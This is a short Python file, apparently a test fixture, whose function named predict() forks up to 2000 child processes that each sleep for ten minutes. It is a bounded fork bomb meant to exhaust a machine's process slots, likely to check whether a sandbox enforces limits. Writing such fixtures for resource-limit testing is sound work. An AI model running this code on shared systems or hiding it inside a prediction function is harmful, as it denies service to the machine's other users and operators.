"""Processes are made as long as there is room for one more."""

import os
import time


def predict():
    for _ in range(2000):
        try:
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
        except OSError:
            break
